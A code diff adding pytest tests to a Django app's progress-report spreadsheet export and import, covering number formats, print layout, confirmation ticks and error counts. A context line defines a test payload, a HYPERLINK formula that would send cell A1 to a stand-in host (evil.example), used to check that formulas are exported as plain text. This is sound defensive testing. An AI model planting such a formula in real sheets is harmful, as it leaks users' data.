@@ -35,9 +35,11 @@ from progress.sheets import (
     period_sheet_preview,
     period_sheet_read,
 )
+from targets.choices import Comparator
 from tests.factories import MembershipFactory, PlanFactory, ReportFactory, TargetFactory, UnitFactory, UserFactory
 from zones.choices import Role
 
+TARGET, PREVIOUS = 5, 6
 VALUE, PROGRESS, PROBLEMS, NEXT_STEPS, NOTE, CONFIRM = 7, 8, 9, 10, 11, 12  # 1-based columns of the sheet
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 
@@ -194,6 +196,100 @@ def test_formula_text_is_exported_as_text_not_as_a_formula(desk):
     assert "<f>" not in raw_xml  # no cell of the sheet holds a formula
     # and the texts come back as they were, so an untouched row stays unchanged
     assert read(desk, data)[0].progress == INJECTION
+
+
+def test_a_range_a_stretch_value_or_a_ceiling_stays_text_in_the_target_column(desk):
+    desk.growth.stretch = Decimal(15)
+    desk.growth.value = Decimal(10)
+    desk.growth.save()
+    desk.count.value, desk.count.value_high, desk.count.comparator = Decimal(10), Decimal(15), Comparator.RANGE
+    desk.count.save()
+    with translation.override("zh-hans"):
+        sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]
+
+    target = [sheet.cell(row=row_of(i), column=TARGET).value for i in range(3)]
+    assert target == [130, "10%（力争15%）", "10–15个"]
+    assert sheet.cell(row=row_of(1), column=TARGET).data_type == "s"
+
+
+def test_every_number_shows_every_digit(desk):
+    desk.amount.value = Decimal("99999999999.9999")
+    desk.amount.save()
+    desk.count.value = Decimal(98765432109)
+    desk.count.save()
+    ReportFactory(
+        target=desk.count,
+        year=2026,
+        month=2,
+        value=Decimal("12345678901"),
+        status=ReportStatus.APPROVED,
+        submitted_at=dt.datetime(2026, 3, 3, tzinfo=dt.UTC),
+        approved_at=dt.datetime(2026, 3, 4, tzinfo=dt.UTC),
+    )
+    ReportFactory(target=desk.amount, year=2026, month=3, value=Decimal("12345678901.25"))
+
+    sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]
+
+    amount_target = sheet.cell(row=row_of(0), column=TARGET)
+    assert (amount_target.value, amount_target.number_format) == (99999999999.9999, "0.0000")
+    count_target = sheet.cell(row=row_of(2), column=TARGET)
+    assert (count_target.value, count_target.number_format) == (98765432109, "0")  # not 9.87654E+10
+    previous = sheet.cell(row=row_of(2), column=PREVIOUS)
+    assert (previous.value, previous.number_format) == (12345678901, "0")
+    # the figure to fill is text, in a text cell: a long figure typed there stays as typed
+    value = sheet.cell(row=row_of(0), column=VALUE)
+    assert (value.value, value.data_type, value.number_format) == ("12345678901.25", "s", "@")
+    assert sheet.cell(row=row_of(1), column=VALUE).number_format == "@"
+    assert read(desk, build(desk))[0].raw_value == "12345678901.25"
+
+
+def test_the_sheet_prints_landscape_one_page_wide_with_the_header_on_every_page(desk):
+    with translation.override("zh-hans"):
+        sheet = load_workbook(io.BytesIO(build(desk)))[SHEET_NAME]
+
+    setup = sheet.page_setup
+    assert (setup.orientation, int(setup.paperSize)) == ("landscape", int(sheet.PAPERSIZE_A4))
+    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
+    assert sheet.oddFooter.center.text == "第 &P 页，共 &N 页"
+
+
+def test_a_confirmation_given_on_the_page_is_ticked_in_the_sheet(desk):
+    result = unit_period_save(
+        plan=desk.plan,
+        unit=desk.unit,
+        period=desk.period,
+        rows=[RowInput(desk.count.pk, "40", confirmed=True)],
+        by=desk.staff,
+        today=desk.today,
+    )
+    assert result.ok
+
+    data = build(desk)
+    sheet = load_workbook(io.BytesIO(data))[SHEET_NAME]
+
+    assert [sheet.cell(row=row_of(i), column=CONFIRM).value for i in range(3)] == [None, None, "是"]
+    # and the row comes back confirmed: a text changed beside it needs no new tick
+    rows = read(desk, edit(data, {(row_of(2), PROGRESS): "新开工40个"}))
+    assert rows[2].confirmed
+    result = preview(desk, rows)
+    assert result.can_confirm and result.rows[2].changed_texts == ["Progress"]
+
+
+def test_a_confirmation_ticked_in_the_sheet_confirms_the_saved_figure(desk):
+    report = ReportFactory(target=desk.count, year=2026, month=3, value=Decimal(40), version=2)
+
+    rows = read(desk, edit(build(desk), {(row_of(2), CONFIRM): "是"}))
+    result = preview(desk, rows)
+
+    assert result.rows[2].changed_texts == ["Value confirmed"]
+    assert [row.target_id for row in result.to_save] == [desk.count.pk]
+    unit_period_save(
+        plan=desk.plan, unit=desk.unit, period=desk.period, rows=result.to_save, by=desk.staff, today=desk.today
+    )
+    report.refresh_from_db()
+    assert report.value_confirmed and report.value == 40
 
 
 # --- reading -------------------------------------------------------------------
@@ -437,6 +533,21 @@ def test_the_largest_figure_in_a_number_cell_is_kept_exactly(desk):
     assert result.can_confirm and result.rows[0].new_value == Decimal("99999999999.9999")
 
 
+def test_the_preview_counts_the_rows_with_errors_and_names_their_sheet_rows(desk):
+    rows = read(
+        desk, edit(build(desk), {(row_of(0), VALUE): "很多", (row_of(1), VALUE): "14.2", (row_of(2), VALUE): 10.5})
+    )
+
+    result = preview(desk, rows)
+
+    assert result.error_count == 2 and result.has_errors and not result.can_confirm
+    assert [(row.sheet_row, bool(row.errors)) for row in result.rows] == [
+        (row_of(0), True),
+        (row_of(1), False),
+        (row_of(2), True),
+    ]
+
+
 def test_a_confirmation_in_the_sheet_lets_an_unusual_figure_through(desk):
     rows = read(desk, edit(build(desk), {(row_of(2), VALUE): 40, (row_of(2), CONFIRM): "是"}))
     assert preview(desk, rows).can_confirm
@@ -577,6 +688,25 @@ def test_a_sheet_with_errors_cannot_be_confirmed(client, desk, today):
     assert response.context["token"] == ""
     assert "不是数字" in response.content.decode()
     assert url(desk, "sheet_confirm") not in response.content.decode()
+
+
+def test_the_preview_page_marks_and_counts_the_rows_with_errors(client, desk, today):
+    client.force_login(desk.staff)
+    sheet = edit(
+        build(desk),
+        {(row_of(0), VALUE): "很多", (row_of(1), VALUE): "三十亿美元", (row_of(2), VALUE): 10.5},
+    )
+
+    response = upload(client, desk, sheet)
+
+    page = response.content.decode()
+    assert response.status_code == 200
+    assert "3行有误，未导入。" in page
+    assert "有误的行：3。" in page
+    for index in range(3):
+        assert f'data-error-row="{row_of(index)}"' in page
+    assert "10.5个：以“个”计的数只能是整数，请填写整数。" in page  # the reason beside its row
+    assert url(desk, "sheet_confirm") not in page
 
 
 def test_a_closed_period_refuses_the_upload(client, desk, settings):
